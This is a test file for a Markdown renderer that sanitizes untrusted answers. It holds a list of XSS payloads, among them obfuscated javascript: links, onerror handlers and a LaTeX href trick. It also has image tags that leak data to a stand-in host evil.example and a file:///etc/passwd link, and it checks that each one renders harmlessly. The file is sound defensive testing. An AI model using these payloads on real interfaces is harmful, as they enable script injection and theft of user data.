/** Answers are untrusted: nothing in them is run, and nothing is loaded from elsewhere. */

import { render } from "@testing-library/react";
import { expect, it } from "vitest";
import { Markdown } from "../../src/markdown";
import { safeImage, safeLink } from "../../src/markdown/links";

const ALLOWED = new Set(
  "div p span a strong em del code pre ul ol li br hr h3 h4 h5 h6 table thead tbody tr th td blockquote button img input sup svg path rect".split(
    " ",
  ),
);

const VECTORS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<math><mtext></p><img src onerror=alert(1)></mtext></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:alert(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.com/1)",
  "[x](//evil.example/x)",
  "[x](/v1/threads)",
  "[x](streamdown:incomplete-link)",
  "<javascript:alert(1)>",
  "[x]\n\n[x]: javascript:alert(1)",
  "[1]: javascript:alert(1)\n\n[1]",
  "[[a](javascript:alert(1))](javascript:alert(2))",
  "[![a](javascript:alert(1))](javascript:alert(2))",
  "![x](https://evil.example/log?q=secret)",
  "![x](http://evil.example/p.png)",
  "![x](//evil.example/p.png)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x]\n\n[x]: https://evil.example/p.png",
  '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
  '[x](https://example.com "t\\" onmouseover=alert(1) x=\\"")',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "[^<img src=x onerror=alert(1)>]: x",
  "$\\href{javascript:alert(1)}{x}$ $\\htmlStyle{color:red}{x}$ $\\includegraphics{https://evil.example/x}$",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
];

it.each(VECTORS)("does nothing with %s", (vector) => {
  for (const streaming of [true, false]) {
    const { container, unmount } = render(
      <Markdown text={vector} streaming={streaming} citations={0} onCite={() => undefined} />,
    );
    for (const element of container.querySelectorAll("*")) {
      expect(ALLOWED).toContain(element.localName);
      expect(element.getAttributeNames().filter((name) => name.startsWith("on"))).toEqual([]);
      if (element.localName === "a") expect(element.getAttribute("href")).toMatch(/^(?:https?:\/\/|mailto:)/);
      if (element.localName === "img")
        expect(element.getAttribute("src")).toMatch(/^data:image\/(?:png|jpeg|gif|webp);/);
    }
    unmount();
  }
});

it("follows only the web and mail", () => {
  expect(safeLink("https://example.com/a?b#c")).toBe("https://example.com/a?b#c");
  expect(safeLink(" mailto:me@example.com ")).toBe("mailto:me@example.com");
  for (const address of [
    "",
    "x",
    "/x",
    "//x.example",
    "#x",
    "javascript:1",
    "data:,x",
    "ftp://x",
    "tel:1",
    "java\tscript:1",
  ]) {
    expect(safeLink(address)).toBeUndefined();
  }
});

it("does not let a backslash hide the host", () => {
  expect(new URL(safeLink("https://good.example\\@evil.example/") ?? "https://evil.example").host).not.toBe(
    "good.example",
  );
  expect(safeLink("https:\\\\evil.example")).toBeUndefined();
});

it("opens links apart from the page, and tells their servers nothing", () => {
  const { container } = render(
    <Markdown text="[x](https://example.com)" streaming={false} citations={0} onCite={() => undefined} />,
  );
  const link = container.querySelector("a");
  expect(link?.rel).toBe("noopener noreferrer nofollow");
  expect(link?.target).toBe("_blank");
});

it("shows only pictures that carry their data", () => {
  expect(safeImage("data:image/png;base64,AAAA")).toBe("data:image/png;base64,AAAA");
  for (const address of ["https://x/y.png", "data:image/svg+xml;base64,AAAA", "data:image/png,<svg>", "blob:x"]) {
    expect(safeImage(address)).toBeUndefined();
  }
  const { container } = render(
    <Markdown text="![a *cat*](https://x.example/y.png)" streaming={false} citations={0} onCite={() => undefined} />,
  );
  expect(container.querySelector("img")).toBeNull();
  expect(container.querySelector("a")?.textContent).toBe("Image: a cat");
});
